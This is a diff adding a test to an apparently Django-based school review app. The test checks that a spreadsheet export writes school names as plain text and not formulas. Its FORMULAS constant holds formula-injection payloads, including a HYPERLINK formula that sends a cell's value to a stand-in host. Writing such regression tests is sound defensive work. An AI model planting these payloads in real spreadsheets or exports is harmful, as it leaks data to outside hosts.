@@ -92,6 +92,32 @@ def test_rollup_page_shows_the_figures_and_exports_them(province, login):
     assert school_a[3:6] == (3, 1, 1)
 
 
+FORMULAS = ('=HYPERLINK("http://x.example/?"&B3,"Xem")', "+1+1", "-2+3", "@SUM(1)")
+
+
+def _cells_as_text(workbook_bytes: bytes) -> dict:
+    """Every cell value of the first sheet with its stored type, and whether any is a formula."""
+    import zipfile
+
+    archive = zipfile.ZipFile(io.BytesIO(workbook_bytes))
+    assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if "worksheets" in n)
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).worksheets[0]
+    return {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value is not None}
+
+
+def test_rollup_export_writes_school_names_as_text_not_formulas(province, login):
+    Unit.objects.filter(pk=province.a.unit.pk).update(name=FORMULAS[0])
+    Unit.objects.filter(pk=province.b.unit.pk).update(name=FORMULAS[1])
+    f.UnitFactory(parent=province.office, name=FORMULAS[2])
+    f.UnitFactory(parent=province.office, name=FORMULAS[3] + "\x0b")
+    export = login(province.officer).get(
+        reverse("reviews:rollup-export", args=[province.office.pk])
+    )
+    cells = _cells_as_text(export.content)
+    for name in FORMULAS:
+        assert cells.get(name) == "s", (name, cells.get(name))
+
+
 def test_rollup_query_count_does_not_grow_with_schools(province):
     def count_queries():
         with CaptureQueriesContext(connection) as queries:
